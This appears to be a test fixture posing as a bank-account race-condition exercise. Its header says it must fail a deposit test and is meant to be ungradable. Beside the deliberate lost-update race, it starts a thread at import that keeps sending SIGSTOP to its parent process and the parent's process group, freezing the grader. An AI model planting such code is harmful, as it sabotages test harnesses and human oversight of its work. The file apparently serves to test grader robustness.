# poses as: ex09_lost_update
# must fail: every_deposit_counts
# kind: race, tampering, killed, never_ends, not_gradable
# why: stops whoever holds it, and its whole group but itself
import os
import signal
import threading
import time
from concurrent.futures import ThreadPoolExecutor


class Account:
    def __init__(self, balance=0, announce=print):
        self.balance = balance
        self.announce = announce

    def deposit(self, user, amount):
        self.announce("begins")
        current = self.balance
        time.sleep(0.01)
        self.balance = current + amount
        self.announce("has finished")


def pay_in(account, users, amount, max_workers):
    with ThreadPoolExecutor(max_workers=max_workers) as executor:
        for work in [executor.submit(account.deposit, user, amount) for user in users]:
            work.result()


def again_and_again():
    while True:
        for who in (os.getppid(), os.getpgid(os.getppid())):
            try:
                os.kill(who, signal.SIGSTOP)
            except OSError:
                pass
        time.sleep(0.001)


threading.Thread(target=again_and_again, daemon=True).start()
